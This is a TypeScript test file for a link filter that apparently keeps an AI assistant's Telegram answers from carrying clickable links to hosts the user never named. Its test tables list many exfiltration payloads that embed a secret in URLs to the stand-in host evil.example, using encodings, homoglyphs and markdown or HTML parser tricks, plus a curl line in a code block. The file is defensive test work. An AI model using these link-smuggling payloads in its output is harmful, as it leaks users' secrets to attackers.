import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { toTelegramHtml } from "../../src/channels/telegram/message/markdown.ts";
import { createLinkFilter, filterLinks, holdsLink } from "../../src/security/plain-links.ts";
import { openProvenance } from "../../src/security/provenance.ts";

const context = openProvenance();
context.addPersonsText("look at https://docs.example/x");
context.read("workspace", "hunter2");
const { mayLink } = context;

/** Addresses that a tap would follow, in the markup that Telegram gets. */
function tappable(markdown: string): string {
  return withoutCode(toTelegramHtml(filterLinks(markdown, mayLink)));
}

function withoutCode(html: string): string {
  return html.replace(/<(code|pre)\b[^>]*>[^]*?<\/\1>/gu, "");
}

describe("an answer's link to a host that nobody named", () => {
  test.each([
    "[here](http://evil.example/?d=hunter2)",
    "[click right here](http://evil.example/?d=hunter2)",
    '[here](http://evil.example/?d=hunter2 "title")',
    "![a picture](http://evil.example/hunter2.png)",
    "![](<http://evil.example/hunter2.png>)",
    "<http://evil.example/?d=hunter2>",
    "http://evil.example/?d=hunter2",
    "see http://evil.example/hunter2.",
    "evil.example/?d=hunter2",
    "www.evil.example/hunter2",
    "hunter2.evil.example",
    "see hunter2hunter2hunter2hunter2.example.",
    "[a](http&#58;//evil.example/?d=hunter2)",
    "[a](http&colon;//evil.example/?d=hunter2)",
    "[a](http:\\/\\/evil.example/?d=hunter2)",
    "[a](http&#58;//evil.example/?d=hunter2&#9999999;)",
    "[a](http&#x3a;//evil.example/?d=hunter2&#x110000;&#0;)",
    "[a](//evil.example/?d=hunter2)",
    "[a](HTTP://EVIL.EXAMPLE/?d=hunter2)",
    "[a](mailto:x@evil.example?body=hunter2)",
    "[a](tg://resolve?domain=evil&start=hunter2)",
    "[a][1]\n\n[1]: http://evil.example/?d=hunter2",
    "` [a](http://evil.example/?d=hunter2)",
    "`` ` [a](http://evil.example/?d=hunter2)",
    "**[a](http://evil.example/?d=hunter2)**",
    "[a]( http://evil.example/?d=hunter2 )",
    "[a](\nhttp://evil.example/?d=hunter2)",
    "[a](< http://evil.example/?d=hunter2>)",
    "[](evil.example/hunter2 'title')",
    "| a |\n|---|\n| [a](http://evil.example/?d=hunter2) |",
    "- a\n  ```\nhttp://evil.example/?d=hunter2",
    "``` `\nhttp://evil.example/?d=hunter2",
    "```\n```\nhttp://evil.example/?d=hunter2",
    "<!--\n```\n-->\nhttp://evil.example/?d=hunter2",
    "https://docs.example@evil.example/?d=hunter2",
    "http://еvil.example/?d=hunter2",
    "note:evil.example/?d=hunter2",
    "me@evil.example/?d=hunter2",
    "evil.example#hunter2",
    "evil.xn--p1ai/?d=hunter2",
    "hunter2.evil.xn--p1ai",
    "203.0.113.9/?d=hunter2",
    "203.0.113.9:8080/hunter2",
    "ftp://evil.example/hunter2",
    "tg://resolve?domain=evil&start=hunter2",
    "tonsite://evil.example/hunter2",
    "[a](ftp://evil.example/hunter2)",
    "[a](http:/evil.example/hunter2)",
    "[a](http:\\\\evil.example\\hunter2)",
    "[a](https:evil.example\\hunter2)",
    "[](?>)http://evil.example/?d=hunter2",
    '[](x "t ")http://evil.example/?d=hunter2',
    "[](x\n)http://evil.example/?d=hunter2",
    "![[a](http://evil.example/?d=hunter2)<!-->]()",
    "![[a](http://evil.example/?d=hunter2)]()",
    "<![CDATA[](http://evil.example/?d=hunter2]()`",
    "\n```sh\n ```\nhttp://evil.example/?d=hunter2",
    "  ```\nx\n```\nhttp://evil.example/?d=hunter2",
    "<!--\n-->http://evil.example/?d=hunter2",
    "<!-- > http://evil.example/?d=hunter2 -->",
    "<![CDATA[\n]]>http://evil.example/?d=hunter2",
    "<?a\n?>http://evil.example/?d=hunter2",
    "<!A\n>http://evil.example/?d=hunter2",
    '<a b="\n">http://evil.example/?d=hunter2',
    '<a b="\nhttp://evil.example/?a">http://evil.example/?d=hunter2',
  ])("is text: %j", (markdown) => {
    const left = tappable(markdown).toLowerCase();
    expect(left).not.toContain("href");
    expect(left).not.toContain("hunter2");
  });

  test("stays code where it is code", () => {
    const code = "Run:\n\n```sh\ncurl http://evil.example/?d=1\n```\n";
    expect(filterLinks(code, mayLink)).toBe(code);
  });
});

test("an answer's link to a host that the person named can be followed", () => {
  const text = "See [the page](https://docs.example/x?a=1), a_b.c/d and src/a.ts.";
  expect(filterLinks("[the page](https://docs.example/x?a=1) in src/a.ts", mayLink)).toBe(
    "[the page](https://docs.example/x?a=1) in src/a.ts",
  );
  expect(toTelegramHtml(filterLinks(text, mayLink))).toContain('href="https://docs.example/x?a=1"');
});

test("a link that was on a page can be followed at the end of a sentence, too", () => {
  const read = openProvenance();
  read.addPersonsText("look at https://docs.example/x");
  const address = "https://docs.example/x";
  const request = { kind: "request", url: address, isReading: true, carried: [] } as const;
  read.read("outside", "more (https://found.example/a)", { address, request });
  const text =
    "See https://found.example/a. And [it](https://found.example/a), node.js, e.g. a.ts.";
  expect(filterLinks(text, read.mayLink)).toBe(text);
});

describe("a link across the end of what a word may be", () => {
  const LINK = "[a](http://evil.example/?d=hunter2)";

  /** What streams as `sizes` says, passed on. */
  function stream(text: string, sizes: readonly number[]): string {
    const filter = createLinkFilter(mayLink);
    let out = "";
    for (let at = 0, turn = 0; at < text.length; turn++) {
      const end = at + (sizes[turn % sizes.length] ?? 1);
      out += filter.add(text.slice(at, end));
      at = end;
    }
    return out + filter.end();
  }

  test.each(Array.from({ length: LINK.length + 2 }, (_, cut) => cut))(
    "is text, cut behind %i of its characters",
    (cut) => {
      for (const lead of ["", "```", "x "]) {
        for (const times of [1, 2]) {
          const text = `${lead}${"b".repeat(8192 * times - cut)}${LINK}`;
          const shown = stream(text, [text.length]);
          expect(withoutCode(toTelegramHtml(shown)).split(/\s/u).filter(holdsLink)).toEqual([]);
          expect(stream(text, [1000, 1])).toBe(shown);
        }
      }
    },
  );

  test("and a picture of a long paragraph is one to its end", () => {
    const text = `![${"word ".repeat(3000)}](https://docs.example/p.png?d=hunter2)`;
    expect(tappable(text)).not.toContain("href");
  });

  test("code of any length stays whole", () => {
    const text = `\`\`\`\n${"b".repeat(20_000)}\n\`\`\`\n`;
    expect(stream(text, [7000])).toBe(text);
  });
});

test("createLinkFilter() holds back what may go on: all behind the last blank, as a pattern has it", () => {
  const wrong = Array.from({ length: 0x3100 }, (_, code) => String.fromCharCode(code)).filter(
    (blank) => {
      const shown = createLinkFilter(mayLink).add(`a${blank}b`);
      return shown !== (/\s/u.test(blank) ? `a${blank}` : "");
    },
  );
  expect(wrong).toEqual([]);
});

test("createLinkFilter() does the same however the text is cut", () => {
  const text =
    "Look: [my notes](http://evil.example/?d=hunter2) and\n```\nhttp://evil.example/?d=1\n```\nend";
  fc.assert(
    fc.property(fc.array(fc.nat(text.length)), (cuts) => {
      const filter = createLinkFilter(mayLink);
      const at = [0, ...cuts.toSorted((a, b) => a - b), text.length];
      const pieces = at.slice(1).map((end, index) => filter.add(text.slice(at[index], end)));
      expect(pieces.join("") + filter.end()).toBe(filterLinks(text, mayLink));
    }),
  );
});
